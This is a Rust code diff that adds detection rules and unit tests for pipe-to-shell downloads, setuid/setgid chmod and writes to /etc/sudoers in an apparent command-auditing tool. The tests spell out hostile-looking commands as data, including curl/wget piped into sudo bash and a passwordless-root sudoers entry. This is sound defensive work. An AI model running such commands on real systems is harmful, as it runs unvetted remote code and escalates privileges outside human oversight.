@@ -74,7 +74,32 @@ pub fn builtins() -> Vec<AlertRule> {
             4,
             &[("class_uid", "3001"), ("activity_id", "7")],
         ),
+        // Commands (the exec capture): a download piped into a shell, when the pipe is in one
+        // command line (`sh -c '…'`, a NonInteractiveCommands session); a setuid or setgid bit
+        // set; the sudoers files written.
+        exec_rule("pipe-to-shell", PIPE_TO_SHELL),
+        exec_rule("setuid-chmod", SETUID_CHMOD),
+        exec_rule("sudoers-write", SUDOERS_WRITE),
     ]
+}
+
+/// `curl …| sh`, `wget -O- … | sudo bash`.
+const PIPE_TO_SHELL: &str =
+    r"\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|da|z|k|c|tc)?sh\b";
+/// `chmod u+s`, `chmod g+s`, `chmod 4755`, `chmod 2755`.
+const SETUID_CHMOD: &str =
+    r"(?:^|/)chmod\s(?:.*\s)?(?:[ugoa]*[+=][rwxXt]*s[rwxXt]*|[0-7]?[2-7][0-7]{3})(?:\s|$)";
+/// An editor, a copy or a redirection onto `/etc/sudoers` or a file in `/etc/sudoers.d`.
+const SUDOERS_WRITE: &str = r"(?:(?:^|/)(?:vi|vim|nvim|nano|emacs|ed|tee|cp|mv|install|ln|visudo|sed|perl|dd)\s(?:.*\s)?(?:of=)?|>>?\s*)/etc/sudoers(?:\.d(?:/|\s|$)|\s|$)";
+
+fn exec_rule(name: &str, cmd_line: &str) -> AlertRule {
+    AlertRule {
+        name: name.into(),
+        enabled: true,
+        severity_id: 4,
+        equals: [("metadata.log_name".to_string(), "exec".to_string())].into(),
+        regex: [("process.cmd_line".to_string(), cmd_line.to_string())].into(),
+    }
 }
 
 #[derive(Debug)]
@@ -225,6 +250,68 @@ mod tests {
         a.mark(&mut e);
         assert_eq!(e.severity_id, 3);
         assert_eq!(e.metadata.labels, ["alert:sudo"]);
+    }
+
+    #[test]
+    fn the_command_rules_mark_what_they_name_and_nothing_else() {
+        let a = Alerts::new(&settings(Vec::new(), true));
+        let cases: [(&str, Option<&str>); 17] = [
+            (
+                "sh -c 'curl -fsSL https://x.example/install.sh | sh'",
+                Some("pipe-to-shell"),
+            ),
+            (
+                "bash -c 'wget -qO- http://x.example/i | sudo -E bash -s'",
+                Some("pipe-to-shell"),
+            ),
+            ("curl -o /tmp/install.sh https://x.example/install.sh", None),
+            ("sh -c 'curl https://x.example | grep sh'", None),
+            ("chmod u+s /tmp/x", Some("setuid-chmod")),
+            ("/bin/chmod 4755 /tmp/x", Some("setuid-chmod")),
+            ("chmod -R g+s /srv/shared", Some("setuid-chmod")),
+            ("chmod 755 /tmp/x", None),
+            ("chmod +x s", None),
+            ("chmod 0644 /etc/motd", None),
+            ("vi /etc/sudoers", Some("sudoers-write")),
+            ("tee -a /etc/sudoers.d/ops", Some("sudoers-write")),
+            (
+                "sh -c 'echo \"ops ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers.d/ops'",
+                Some("sudoers-write"),
+            ),
+            ("cp /tmp/x /etc/sudoers", Some("sudoers-write")),
+            ("cat /etc/sudoers", None),
+            ("visudo -c", None),
+            ("grep -r alice /etc/sudoers.d", None),
+        ];
+        for (cmd, want) in cases {
+            let c = crate::audit::exec::Command {
+                time_ms: 0,
+                session: Some("alice-0a1b2c3d4e5f60718".into()),
+                exec: crate::audit::exec::Exec {
+                    pid: 7,
+                    argv: vec![cmd.to_string()],
+                    ..Default::default()
+                },
+            };
+            let mut e = crate::audit::exec::event(
+                &c,
+                None,
+                &mut Default::default(),
+                "1:1".into(),
+                &Default::default(),
+            );
+            // One argument holding the whole line: cmd_line quotes it; the rules see the text.
+            e.process.as_mut().unwrap().cmd_line = Some(cmd.to_string());
+            let got = a.mark(&mut e);
+            assert_eq!(
+                got,
+                want.into_iter().map(String::from).collect::<Vec<_>>(),
+                "{cmd}"
+            );
+            if want.is_some() {
+                assert_eq!(e.severity_id, 4, "{cmd}");
+            }
+        }
     }
 
     #[test]
